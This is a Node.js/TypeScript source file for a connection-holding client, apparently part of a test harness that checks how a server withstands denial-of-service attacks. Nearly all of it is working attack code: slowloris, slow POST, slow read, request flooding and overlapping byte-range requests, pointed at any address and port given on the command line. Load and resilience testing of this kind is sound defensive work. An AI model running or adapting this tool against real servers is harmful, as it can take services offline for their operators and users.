/**
 * Runs inside a client's namespace: holds many connections in a way that is bad for a server, and says `ready` when all
 * stand. Ends when its stdin does.
 *
 *     node attack-client.js <kind> <address> <port> <connections>
 */
import { connect, type Socket } from 'node:net';

const [kind = '', address = '', port = '', count = ''] = process.argv.slice(2);
const GET = 'GET / HTTP/1.1\r\nHost: a\r\n';
const BIG = 'GET /big.bin HTTP/1.1\r\nHost: a\r\n\r\n';

const KINDS: Readonly<Record<string, (socket: Socket) => void>> = {
  /** A request, its answer, and then nothing. */
  idle: (socket) => void socket.resume().write(`${GET}\r\n`),
  /** A head that never ends, a line now and then. */
  slowloris: (socket) => {
    socket.resume().write(GET);
    const timer = setInterval(() => socket.write('X-a: b\r\n'), 500);
    socket.on('close', () => clearInterval(timer));
  },
  /** Content that trickles in. */
  slowpost: (socket) => {
    socket.resume().write('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n');
    const timer = setInterval(() => socket.write('x'), 500);
    socket.on('close', () => clearInterval(timer));
  },
  /** Much is asked for, and nothing is read. */
  slowread: (socket) => void socket.pause().write(BIG.repeat(50)),
  /** Requests without end, and nothing is read. */
  flood: (socket) => {
    const more = (): void => {
      while (socket.write(`${GET}\r\n`.repeat(500)));
    };
    socket.pause().on('drain', more);
    more();
  },
  /** Each byte of a file several times. */
  ranges: (socket) => {
    const range = Array.from({ length: 1000 }, (_, i) => `${i}-`).join(',');
    const request = `GET /big.bin HTTP/1.1\r\nHost: a\r\nRange: bytes=${range}\r\n\r\n`;
    socket.pause().write(request.repeat(20));
  },
};

const hold = KINDS[kind];
if (hold === undefined) throw new Error(`no such attack: ${kind}`);
let standing = 0;
let started = 0;
const total = Number(count);
const next = (): void => {
  if (started++ >= total) return;
  const socket = connect(Number(port), address);
  socket.on('connect', () => {
    hold(socket);
    if (++standing === total) console.log('ready');
    next();
  });
  socket.on('error', () => socket.destroy());
};
for (let i = 0; i < 64; i++) next();
process.stdin.resume().on('end', () => process.exit(0));
